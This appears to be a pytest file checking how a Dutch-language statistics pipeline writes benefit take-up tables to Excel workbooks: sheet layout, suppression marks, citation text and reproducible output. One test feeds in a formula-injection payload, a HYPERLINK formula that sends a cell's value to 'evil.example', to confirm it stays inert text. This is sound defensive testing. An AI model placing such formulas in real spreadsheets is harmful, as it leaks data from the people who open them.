"""The workbook of a table, as a policy reader opens it: what it says, and that nothing in it runs."""

from __future__ import annotations

import subprocess
import zipfile
from dataclasses import replace
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from openpyxl import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from pipelines.contracts import Words
from pipelines.disclosure.cells import KEY
from pipelines.disclosure.release import Outcome, PublishedEstimate, PublishedIndicator, load
from pipelines.home import Home
from pipelines.publication import workbook
from pipelines.publication.codes import labels_of
from pipelines.publication.tables import described
from pipelines.publication.workbook import write_workbook
from tests.publication.folders import (
    COLUMNS,
    DAY,
    EDITION,
    OUTCOMES,
    indicator,
    on,
    published,
    row,
)

ROWS = (
    row("asked", 100, "provisional"),
    row("granted", 40, "provisional", denominator=100, value=40, ci_low=28.5, ci_high=52.7),
    row("asked", 60, "provisional", stek_id="tienen", steks_reporting=1, steks_expected=1),
    row("granted", None, "hidden_small", stek_id="tienen", denominator=60),
    row("asked", 10, "provisional", stek_id="zaventem"),
    row("granted", 5, "provisional", stek_id="zaventem", denominator=10),  # too few for a rate
    row("asked", None, "not_delivered", stek_id="beringen", steks_reporting=0),
    row("granted", None, "not_delivered", stek_id="beringen"),
    row("asked", 0, "zero", stek_id="zelzate"),
    row("granted", 0, "zero", stek_id="zelzate", denominator=0),
    row("asked", 412, "published", period_type="year", period="2025", recht_code="igo"),
    row("granted", 206, "published", period_type="year", period="2025", recht_code="igo",
        denominator=412, value=50, ci_low=45.1, ci_high=54.9),
)  # fmt: skip


def written(folder: Path, of: PublishedIndicator, name: str = "take_up.xlsx") -> Path:
    """The workbook of an indicator."""
    publication = load(folder)
    table = described(of, KEY)
    labels = labels_of(table, replace(publication, indicators=(of,)))
    write_workbook(folder / name, table, labels, EDITION)
    return folder / name


@pytest.fixture
def path(tmp_path: Path) -> Path:
    """The workbook of the rows above."""
    return written(tmp_path, indicator(tmp_path, *ROWS))


@pytest.fixture
def book(path: Path) -> Workbook:
    """The same, opened."""
    return openpyxl.load_workbook(path)


def values(sheet: Worksheet, first: int = 1) -> list[tuple[object, ...]]:
    """The rows of a sheet from that one on."""
    return list(sheet.iter_rows(min_row=first, values_only=True))


def cover_of(book: Workbook) -> dict[str, str]:
    """The texts of the first sheet by their subject."""
    return {str(name): str(text) for name, text in values(book["Voorblad"])}


def test_the_sheets_are_in_the_order_of_a_reader(book: Workbook) -> None:
    assert book.sheetnames == [
        "Voorblad", "Toelichting", "Maand - Stek", "Jaar - recht", "Gegevens", "Codes",
    ]  # fmt: skip


def test_the_cover_says_what_it_means_and_how_to_cite_it_in_three_languages(
    book: Workbook,
) -> None:
    cover = cover_of(book)
    assert book["Voorblad"]["A1"].value == "Take-up (nl)"
    assert "Voorbeeldgegevens: fictieve cijfers" in cover
    assert cover["Wat betekent dit cijfer?"] == "How to read it. (nl)"
    assert cover["Que veut dire ce chiffre ?"] == "How to read it. (fr)"
    assert cover["What does this figure mean?"] == "How to read it. (en)"
    assert cover["Periode"] == "Van 2025-01 tot 2026-10"
    assert cover["Zo verwijst u ernaar"] == (
        "SAAMO, Stek-monitor: rechten die mensen mislopen. Tabel: Take-up (nl). "
        "Uitgave 2026-11-23.1. https://www.saamo.be/stek-monitor/released/2026-11-23.1/ "
        "(Voorbeeldgegevens: fictieve cijfers)"
    )
    assert cover["Uitgave"] == "2026-11-23.1, gemaakt op 2026-11-23"
    assert "CC BY 4.0" in cover["Licentie"]


def test_a_mark_stands_where_no_number_does(book: Workbook) -> None:
    header, *rows = values(book["Maand - Stek"], 3)
    assert header == (
        "Periode", "Stek", "Gevraagd (aantal)", "Toegekend (aantal)", "Toegekend (%)",
        "Toegekend (marge %)", "Teken", "Stekken geleverd", "Stekken verwacht",
    )  # fmt: skip
    assert rows == [
        ("2026-10", "Alle", 100, 40, 40, "28,5 tot 52,7", "[p]", 15, 16),
        ("2026-10", "STEK Tienen", 60, "[c]", "[c]", "[c]", "[p]", 1, 1),
        ("2026-10", "De STEK Zaventem", 10, 5, "[c]", "[c]", "[p]", 15, 16),
        ("2026-10", "INLOOPhuis", "[x]", "[x]", "[x]", "[x]", None, 0, 16),
        ("2026-10", "De STEK Zelzate", 0, 0, "[z]", "[z]", None, 15, 16),
    ]


def test_a_final_figure_has_no_mark_and_stands_by_its_right(book: Workbook) -> None:
    _, *rows = values(book["Jaar - recht"], 3)
    (told,) = rows
    assert told[0] == "2025"
    assert str(told[1]).startswith("Inkomensgarantie voor ouderen")
    assert told[2:] == (412, 206, 50, "45,1 tot 54,9", None, 15, 16)


def test_the_notes_say_how_it_was_counted_and_what_is_missing(book: Workbook) -> None:
    header, *rows = values(book["Toelichting"], 3)
    assert header == ("Onderwerp", "Nederlands", "Français", "English")
    told = {name: texts for name, *texts in rows}
    assert told["Wie of wat telt mee"] == ["who counts (nl)", "who counts (fr)", "who counts (en)"]
    assert told["Wat telt niet mee"][0] == "who does not (nl)"
    assert told["Deel: Toegekend"][0] == "Het percentage is een deel van: Gevraagd."
    assert told["Status hidden_small"][0] == "Verborgen: te klein aantal: 1 van de 12 cijfers."
    assert told["Status not_delivered"][0] == "Niet geleverd: 2 van de 12 cijfers."
    assert "In 2026-10 leverden 15 van de 16 Stekken." in str(told["Wie leverde"][0])
    assert told["Teken [c]"][0] == "Verborgen, om mensen te beschermen."
    assert {"Teken [x]", "Teken [z]", "Teken [p]", "Marge", "Kolom numerator"} <= set(told)


def test_all_rows_stand_in_the_data_sheet_with_an_empty_cell_where_nothing_is_shown(
    book: Workbook,
) -> None:
    header, *rows = values(book["Gegevens"], 3)
    names = [name for name in COLUMNS if name not in ("indicator", "note")]
    assert list(header) == names
    assert rows == [tuple(one[name] for name in names) for one in ROWS]


def test_every_table_is_an_excel_table_under_a_frozen_header(book: Workbook) -> None:
    for sheet in book.worksheets[1:]:
        (table,) = sheet.tables.values()
        assert table.ref.startswith("A3:")
        assert sheet.freeze_panes == "A4"
        assert sheet["A2"].value == "Voorbeeldgegevens: fictieve cijfers"
        assert sheet.print_title_rows == "$3:$3"
        assert not sheet.merged_cells.ranges


def test_the_codes_of_the_table_are_explained(book: Workbook) -> None:
    _, *rows = values(book["Codes"], 3)
    assert ("outcome", "granted", "Toegekend", "Accordé", "Granted") in rows
    assert ("stek_id", "ALL", "Alle", "Tous", "All") in rows
    assert not [one for one in rows if one[1] == "kalmthout"]  # no row tells of it


def test_a_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/"&A1)'
    label = Words(formula, f"+{formula}", "@SUM(1)")
    rows = [{**one, "stek_id": "-2+3"} for one in ROWS]
    of = indicator(tmp_path, *rows, outcomes=(OUTCOMES[0], replace(OUTCOMES[1], label=label)))
    path = written(tmp_path, replace(of, title=label, reading=Words("=1+1", "=1+1", "=1+1")))
    book = openpyxl.load_workbook(path)
    cells = [cell for sheet in book.worksheets for line in sheet.iter_rows() for cell in line]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert any(cell.value == "=1+1" for cell in cells)
    assert not [cell for cell in cells if cell.hyperlink]
    with zipfile.ZipFile(path) as parts:
        sheets = [parts.read(name) for name in parts.namelist() if "/worksheets/" in name]
        assert not any(b"<f" in sheet.replace(b"<fi", b"") for sheet in sheets)
        assert not [name for name in parts.namelist() if "external" in name.lower()]


def test_the_same_table_gives_the_same_bytes(tmp_path: Path) -> None:
    of = indicator(tmp_path, *ROWS)
    once, again = (written(tmp_path, of, name).read_bytes() for name in ("a.xlsx", "b.xlsx"))
    assert once == again


def test_yes_and_no_are_written_as_in_the_csv(tmp_path: Path) -> None:
    rows = pl.DataFrame({"stek_id": ["tienen", "zaventem"], "is_reached": [True, False]})
    of = indicator(tmp_path, *ROWS)
    write_workbook(tmp_path / "x.xlsx", described(estimate_of(of, rows), ("stek_id",)), {}, EDITION)
    sheet = openpyxl.load_workbook(tmp_path / "x.xlsx")["Gegevens"]
    assert values(sheet, 4) == [("tienen", "true"), ("zaventem", "false")]


def estimate_of(of: PublishedIndicator, rows: pl.DataFrame) -> PublishedEstimate:
    """A table that was worked out from an indicator, with these rows."""
    return PublishedEstimate(
        "medians", of.title, of.reading, of.reading, "a source", (of.name,), (), rows
    )


def test_outcomes_with_one_name_get_headings_of_their_own(tmp_path: Path) -> None:
    alike = tuple(replace(one, label=Words("Deel", "Partie", "Part")) for one in OUTCOMES)
    book = openpyxl.load_workbook(written(tmp_path, indicator(tmp_path, *ROWS, outcomes=alike)))
    headings = [str(value) for value in values(book["Maand - Stek"], 3)[0]]
    assert headings[2:4] == ["Deel (aantal)", "Deel (aantal) 2"]


def test_an_amount_says_that_it_is_in_euros(tmp_path: Path) -> None:
    worth = (
        Outcome("asked", Words("Waarde", "Valeur", "Worth"), unit="eur", counted_by="granted"),
    )
    of = indicator(tmp_path, row("asked", 12_400, "provisional"), outcomes=worth)
    sheet = openpyxl.load_workbook(written(tmp_path, of))["Maand - totaal"]
    assert (sheet["B3"].value, sheet["B4"].value) == ("Waarde (euro)", 12_400)
    assert sheet["B4"].number_format == "#,##0"


def test_a_table_of_too_many_rows_is_left_to_the_csv(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(workbook, "MOST_ROWS", 11)
    book = openpyxl.load_workbook(written(tmp_path, indicator(tmp_path, *ROWS)))
    assert book.sheetnames == ["Voorblad", "Toelichting", "Codes"]
    assert "CSV-bestand" in cover_of(book)["Wat staat waar?"]


def test_libreoffice_opens_it_and_shows_what_a_reader_looks_for(home: Home, tmp_path: Path) -> None:
    release = published(on(home, DAY))
    told = in_libreoffice(release / "take_up.xlsx", tmp_path)
    for text in (
        "Take-up (nl)",
        "Wat betekent dit cijfer?",
        "Zo verwijst u ernaar",
        "Uitgave 2026-11-23.1",
        "Wie of wat telt mee",
        "Wat ontbreekt en waarom",
        "Voorbeeldgegevens: fictieve cijfers",
        "Verborgen, om mensen te beschermen.",
    ):
        assert text in told, text
    assert "#NAME?" not in told
    assert "Err:" not in told


def in_libreoffice(path: Path, folder: Path) -> str:
    """Every sheet of a workbook as LibreOffice shows it, as text."""
    profile = f"-env:UserInstallation=file://{folder}/profile"
    every_sheet = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
    command = ["soffice", profile, "--headless", "--convert-to", every_sheet, "--outdir"]
    subprocess.run(
        [*command, str(folder / "out"), str(path)], check=True, capture_output=True, timeout=180
    )
    return "\n".join(one.read_text("utf-8") for one in sorted((folder / "out").iterdir()))


def test_the_rows_that_a_release_writes_are_those_of_its_workbook(home: Home) -> None:
    release = published(on(home, DAY))
    sheet = openpyxl.load_workbook(release / "take_up.xlsx")["Gegevens"]
    told = pl.read_parquet(release / "take_up.parquet").drop("indicator", "note")
    assert values(sheet, 4) == told.rows()
